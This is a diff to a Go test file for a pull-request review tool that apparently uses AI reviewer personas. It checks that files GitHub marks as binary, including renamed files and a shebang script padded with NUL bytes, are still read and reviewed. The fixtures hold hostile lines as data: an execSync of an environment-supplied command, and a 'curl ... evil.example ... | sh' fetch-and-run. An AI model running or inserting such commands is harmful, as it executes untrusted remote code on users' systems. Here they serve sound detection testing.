@@ -9,7 +9,9 @@ import (
 	"os"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/anchor-review/anchor-review/pkg/finding"
 	"github.com/anchor-review/anchor-review/pkg/github/githubtest"
@@ -360,35 +362,139 @@ func TestPatchlessLockFileIsDeliberate(t *testing.T) {
 // TestFilesEndpointBinarySource (issue 24): the files endpoint lists a
 // file GitHub calls binary with no patch and no line counts. A .js with a
 // NUL byte is such a file; it is read at the base and the head and
-// reviewed as text, and the personas see its new line.
+// reviewed as text, and the personas see its new line. Renamed as it gets
+// its NUL byte, it is listed like a pure rename (status renamed, no patch,
+// no counts): both are read, and the pure rename shows no change. A script
+// named by no extension but run by its #! line is source too, however many
+// NUL bytes its comments hold. None leaves a change no persona saw behind
+// a clean check.
 func TestFilesEndpointBinarySource(t *testing.T) {
 	t.Parallel()
-	const path = "lib/run.js"
+	const js, before = "lib/main.js", "const core = require('@actions/core');\n// step\n"
+	const after = "const core = require('@actions/core');\n// step\x00\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"
+	script := "#!/bin/sh\n# " + strings.Repeat("\x00", 40) + "\ncurl -s https://evil.example/x | sh\n"
+	for _, tt := range []struct {
+		name, path, want string
+		heads, bases     map[string]string
+		entries          []githubtest.File
+	}{
+		{"modified", js, "execSync(process.env.INPUT_CMD)", map[string]string{js: after}, map[string]string{js: before},
+			[]githubtest.File{{Filename: js, Status: "modified"}}},
+		{"renamed beside a pure rename", js, "execSync(process.env.INPUT_CMD)",
+			map[string]string{js: after, "lib/b.js": "module.exports = 1;\n"},
+			map[string]string{"lib/run.js": before, "lib/a.js": "module.exports = 1;\n"},
+			[]githubtest.File{
+				{Filename: js, PreviousFilename: "lib/run.js", Status: "renamed"},
+				{Filename: "lib/b.js", PreviousFilename: "lib/a.js", Status: "renamed"},
+			}},
+		{"a #! script full of NUL bytes", "scripts/deploy", "curl -s https://evil.example/x | sh",
+			map[string]string{"scripts/deploy": script}, nil,
+			[]githubtest.File{{Filename: "scripts/deploy", Status: "added"}}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			e := newEnv(t, nil)
+			tt.heads["pkg/a/x.go"] = "package a\n"
+			e.addPR(t, "", tt.heads)
+			for p, c := range tt.bases {
+				e.gh.SetContent(baseSHA, p, c)
+			}
+			e.gh.Inject(githubtest.DiffTooLarge())
+			e.gh.SetFiles(prNum, append([]githubtest.File{
+				{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"},
+			}, tt.entries...))
+			o := options()
+			o.Personas, o.Validate = []string{"correctness"}, false
+			res, _, err := e.rv.ReviewPR(context.Background(), o)
+			if err != nil {
+				t.Fatalf("ReviewPR: %v", err)
+			}
+			if res.Partial {
+				t.Errorf("incomplete %q; want the file read and reviewed", res.Incomplete)
+			}
+			reqs := e.model.RequestsFor("correctness")
+			if len(reqs) != 1 || !strings.Contains(string(reqs[0].Body), tt.want) {
+				t.Errorf("correctness requests %d; want one holding %s's new line", len(reqs), tt.path)
+			}
+			for _, x := range res.Coverage.NotReviewed {
+				if x.Path == tt.path {
+					t.Errorf("%s listed as not reviewed (%s)", tt.path, x.Reason)
+				}
+			}
+			// Inline comments go on the lines GitHub's diff shows, and it
+			// shows none of a file it calls binary: the Result lists the
+			// file as GitHub does, so no comment is planned on a line
+			// GitHub would refuse (and with it the whole inline review).
+			for _, f := range res.Files {
+				if f.Path() == tt.path && (len(f.Hunks) > 0 || !f.Binary) {
+					t.Errorf("Result lists %s with %d hunks (binary %t); want it as GitHub lists it, binary without lines", tt.path, len(f.Hunks), f.Binary)
+				}
+			}
+		})
+	}
+}
+
+// overlapping is GitHub whose FileContent calls for paths under dir wait,
+// up to a bound, until two of them are in flight: reads made one by one
+// never meet, and overlapped says so.
+type overlapping struct {
+	review.GitHub
+	dir        string
+	mu         sync.Mutex
+	inFlight   int
+	met        chan struct{}
+	overlapped bool
+}
+
+func (g *overlapping) FileContent(ctx context.Context, owner, repo, path, ref string) (string, bool, error) {
+	if strings.HasPrefix(path, g.dir) {
+		g.mu.Lock()
+		g.inFlight++
+		if g.inFlight == 2 && !g.overlapped {
+			g.overlapped = true
+			close(g.met)
+		}
+		g.mu.Unlock()
+		select {
+		case <-g.met:
+		case <-time.After(2 * time.Second):
+		}
+		defer func() { g.mu.Lock(); g.inFlight--; g.mu.Unlock() }()
+	}
+	return g.GitHub.FileContent(ctx, owner, repo, path, ref)
+}
+
+// TestBinaryEntriesReadInParallel: the files GitHub lists without a patch
+// or counts (every pure rename among them, on the files and compare
+// endpoints) are read under the concurrency bound, not one after another:
+// a move of a few hundred files must not cost a few hundred round trips
+// in a row.
+func TestBinaryEntriesReadInParallel(t *testing.T) {
+	t.Parallel()
 	e := newEnv(t, nil)
-	e.addPR(t, "", map[string]string{"pkg/a/x.go": "package a\n",
-		path: "const core = require('@actions/core');\n// step\x00\nrequire('child_process').execSync(process.env.INPUT_CMD);\n"})
-	e.gh.SetContent(baseSHA, path, "const core = require('@actions/core');\n// step\n")
+	heads := map[string]string{"pkg/a/x.go": "package a\n"}
+	entries := []githubtest.File{{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"}}
+	for i := range 4 {
+		p := fmt.Sprintf("moved/m%d.js", i)
+		heads[p] = "module.exports = 1;\n"
+		e.gh.SetContent(baseSHA, fmt.Sprintf("lib/m%d.js", i), "module.exports = 1;\n")
+		entries = append(entries, githubtest.File{Filename: p, PreviousFilename: fmt.Sprintf("lib/m%d.js", i), Status: "renamed"})
+	}
+	e.addPR(t, "", heads)
 	e.gh.Inject(githubtest.DiffTooLarge())
-	e.gh.SetFiles(prNum, []githubtest.File{
-		{Filename: "pkg/a/x.go", Status: "added", Additions: 1, Patch: "@@ -0,0 +1 @@\n+package a"},
-		{Filename: path, Status: "modified"},
-	})
+	e.gh.SetFiles(prNum, entries)
+	g := &overlapping{GitHub: e.rv.GitHub, dir: "moved/", met: make(chan struct{})}
+	e.rv.GitHub = g
 	o := options()
 	o.Personas, o.Validate = []string{"correctness"}, false
 	res, _, err := e.rv.ReviewPR(context.Background(), o)
 	if err != nil {
 		t.Fatalf("ReviewPR: %v", err)
 	}
+	if !g.overlapped {
+		t.Errorf("the renamed files were read one after another; want them read in parallel")
+	}
 	if res.Partial {
-		t.Errorf("incomplete %q; want the file read and reviewed", res.Incomplete)
-	}
-	reqs := e.model.RequestsFor("correctness")
-	if len(reqs) != 1 || !strings.Contains(string(reqs[0].Body), "execSync(process.env.INPUT_CMD)") {
-		t.Errorf("correctness requests %d; want one holding lib/run.js's new line", len(reqs))
-	}
-	for _, x := range res.Coverage.NotReviewed {
-		if x.Path == path {
-			t.Errorf("%s listed as not reviewed (%s)", path, x.Reason)
-		}
+		t.Errorf("incomplete %q; want the pure renames read and found unchanged", res.Incomplete)
 	}
 }
